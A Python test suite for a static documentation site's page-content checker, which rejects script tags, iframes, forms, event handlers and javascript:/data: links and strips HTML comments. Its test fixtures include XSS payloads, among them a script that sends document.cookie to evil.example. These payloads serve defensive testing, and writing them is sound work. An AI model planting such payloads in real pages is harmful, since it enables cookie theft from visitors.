"""What a page holds (checks/page_content.py): no HTML that can run code, no comment published
(a warning, and taken out), no box type the site does not know, no `[text][id]` link without its
address, each at its line. Checked on the page as Python-Markdown builds it, in-process (fast
enough for `make mutate` to run them against every mutant); each test writes its own small page,
so it keeps its meaning when the site's pages are edited. The last plant the same mistakes (and
`javascript:` and `data:` links, refused by checks/links.py) in a copy of the project: the build
fails with the exact words, at their line, and leaves site/ byte for byte."""

from __future__ import annotations

import pytest

from conftest import (ANATOMY, FRONT, assert_failed_and_site_kept, plant, problems_of, render,
                      run_build, tree_digest)
from soleus_site.checks.page_content import page_content_problems


def content_messages(text: str) -> list[str]:
    _, root, source_map = render(text)
    return [str(problem) for problem in page_content_problems(root, source_map)]


@pytest.mark.parametrize("html, message", [
    ("<script>alert(1)</script>", "<script> is not allowed in a page: it can run code or show "
     "another website; remove it (to show a video, use the :video: shortcode)"),
    ('<iframe src="https://example.org/"></iframe>', "<iframe> is not allowed in a page: it can "
     "run code or show another website; remove it (to show a video, use the :video: shortcode)"),
    ('<form action="https://example.org/"><input></form>', "<form> is not allowed in a page: it "
     "can run code or show another website; remove it (to show a video, use the :video: shortcode)"),
])
def test_html_that_runs_code_is_an_error_at_its_line(html, message):
    assert content_messages(f"{FRONT}Intro.\n\n{html}\n") == [f"docs/exercise.md:9: {message}"]


def test_a_comment_with_words_is_a_warning_an_empty_one_is_not():
    assert content_messages(f"{FRONT}Intro.\n\n<!-- ask Sam -->\n\n<!-- -->\n") == [
        "docs/exercise.md:9: warning: a comment (<!-- ... -->) was left out of the published "
        "page: keep notes for staff outside the page's file"]


def test_an_unknown_box_type_is_an_error_at_its_line():
    text = f'{FRONT}Intro.\n\n!!! warnin "Careful"\n    Stop.\n\n!!! zzz\n    Hidden.\n\n!!! tip\n    Ok.\n'
    assert content_messages(text) == [
        "docs/exercise.md:9: box type 'warnin' is not one the site knows, so it would show "
        "without its colour and icon (did you mean 'warning'?)",
        "docs/exercise.md:12: box type 'zzz' is not one the site knows, so it would show without "
        "its colour and icon (for example warning, note or tip)"]


def test_a_reference_link_without_its_address_is_an_error_at_each_use():
    text = (f"{FRONT}See [the steps][steps] and [the tips][tips].\n\nAgain [the steps][steps].\n\n"
            "[tips]: exercise.md#tips\n")
    assert content_messages(text) == [
        "docs/exercise.md:7: link [the steps][steps] has no address: add a line '[steps]: "
        "https://...' (or the page's file name) below the paragraph, or write the link as "
        "[the steps](address)",
        "docs/exercise.md:9: link [the steps][steps] has no address: add a line '[steps]: "
        "https://...' (or the page's file name) below the paragraph, or write the link as "
        "[the steps](address)"]


def test_a_clean_page_has_no_problem():
    assert content_messages(f"{FRONT}Intro with <abbr>HTML</abbr>.\n\n!!! warning\n    Stop.\n") == []


# More of each rule, from the survivors of `make mutate` ------------------------------------------

def test_a_box_is_reported_at_its_own_line_not_at_a_line_naming_its_type():
    assert content_messages("!!! tipp\n    A tipp for you.\n\n- Item\n\n    !!! zzz\n        Nested.\n") == [
        "docs/exercise.md:1: box type 'tipp' is not one the site knows, so it would show without "
        "its colour and icon (did you mean 'tip'?)",
        "docs/exercise.md:6: box type 'zzz' is not one the site knows, so it would show without "
        "its colour and icon (for example warning, note or tip)"]


def test_a_folding_box_and_a_box_without_text_are_checked_at_their_lines():
    assert content_messages("Intro.\n\n??? warnin \"Open me\"\n    Hidden.\n\n!!! zzz\n\n"
                            "!!! tip\n    Ok.\n\n!!! zzz \"Again\"\n") == [
        "docs/exercise.md:3: box type 'warnin' is not one the site knows, so it would show without "
        "its colour and icon (did you mean 'warning'?)",
        "docs/exercise.md:6: box type 'zzz' is not one the site knows, so it would show without "
        "its colour and icon (for example warning, note or tip)",
        "docs/exercise.md:11: box type 'zzz' is not one the site knows, so it would show without "
        "its colour and icon (for example warning, note or tip)"]


def test_empty_boxes_of_one_type_are_each_at_their_own_line():
    assert content_messages("!!! tip \"zzz tips\"\n    A.\n\n!!! zzz\n    B.\n\n!!! zzz\n\n"
                            "???+ zzz\n\n??? \"Only a title\"\n    C.\n") == [
        f"docs/exercise.md:{line}: box type 'zzz' is not one the site knows, so it would show "
        "without its colour and icon (for example warning, note or tip)" for line in (4, 7, 9)]


def test_a_box_written_in_html_is_checked_for_the_whole_file():
    assert content_messages('<div class="admonition zzz" markdown="1">\nText\n</div>\n') == [
        "docs/exercise.md: box type 'zzz' is not one the site knows, so it would show without "
        "its colour and icon (for example warning, note or tip)"]


def test_a_div_with_only_the_admonition_class_is_not_a_box_type():
    assert content_messages('<div class="admonition" markdown="1">\nText\n</div>\n') == []


# In a copy of the project: the build fails and site/ is left as it was ---------------------------

PAGE_ERRORS = {
    "script": ("<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
               "<script> is not allowed in a page: it can run code or show another website; "
               "remove it (to show a video, use the :video: shortcode)"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>',
               "<iframe> is not allowed in a page: it can run code or show another website; "
               "remove it (to show a video, use the :video: shortcode)"),
    "form": ('<form action="https://evil.example/"><input name="nhs"></form>',
             "<form> is not allowed in a page: it can run code or show another website; remove "
             "it (to show a video, use the :video: shortcode)"),
    "event handler": ('<p onmouseover="steal()">Move here</p>',
                      "the event handler onmouseover=\"steal()\" runs code in the visitor's "
                      "browser (remove it)"),
    "javascript link": ("[Tap here](javascript:alert(document.cookie))",
                        "link 'javascript:alert(document.cookie)': 'javascript:' addresses are not "
                        "allowed in a page (they can run code or hide what they show): link to a "
                        "page, a file or a website"),
    "data link": ("[Open](data:text/html;base64,PHNjcmlwdD4=)",
                  "link 'data:text/html;base64,PHNjcmlwdD4=': 'data:' addresses are not allowed "
                  "in a page (they can run code or hide what they show): link to a page, a file "
                  "or a website"),
    "vbscript in raw HTML": ('<a href="vbscript:msgbox(1)">Open</a>',
                             "link 'vbscript:msgbox(1)': 'vbscript:' addresses are not allowed in "
                             "a page (they can run code or hide what they show): link to a page, "
                             "a file or a website"),
    # Silent losses: a box without its colour, a link printed as brackets.
    "misspelt box type": ('!!! dnager "Careful"\n\n    Stop if it hurts.',
                          "box type 'dnager' is not one the site knows, so it would show without "
                          "its colour and icon (did you mean 'danger'?)"),
    "reference link without its address": (
        "Then try [the exercise][ex] on a step.",
        "link [the exercise][ex] has no address: add a line '[ex]: https://...' (or the page's "
        "file name) below the paragraph, or write the link as [the exercise](address)"),
}


@pytest.mark.usefixtures("good_site")
@pytest.mark.parametrize("case", PAGE_ERRORS)
def test_code_or_a_silent_loss_in_a_page_is_an_error_at_its_line(project, case):
    text, message = PAGE_ERRORS[case]
    before = tree_digest(project / "site")
    line = plant(project, text)
    result = run_build(project)
    assert problems_of(result) == [f"{ANATOMY}:{line}: {message}", "1 error, 0 warnings"]
    assert_failed_and_site_kept(project, result, before)


# A comment: taken out of the published page, with a warning --------------------------------------

@pytest.mark.usefixtures("good_site")
def test_a_comment_is_taken_out_of_the_page_with_a_warning(project):
    note = "<!-- Sam: Mrs A (NHS 943 476 5919) asked about this; ring her back -->"
    line = plant(project, note)
    inline = plant(project, "Calf muscles <!-- draft: check with Jo --> work hard.")
    result = run_build(project)
    warning = ("warning: a comment (<!-- ... -->) was left out of the published page: keep notes "
               "for staff outside the page's file")
    assert problems_of(result) == [f"{ANATOMY}:{line}: {warning}", f"{ANATOMY}:{inline}: {warning}",
                                   "0 errors, 2 warnings"]
    assert result.returncode == 0
    published = "".join(path.read_text(encoding="utf-8", errors="replace")
                        for path in (project / "site").rglob("*") if path.suffix in (".html", ".json"))
    assert "Calf muscles  work hard." in published
    for secret in ("943 476 5919", "ring her back", "draft: check with Jo"):
        assert secret not in published
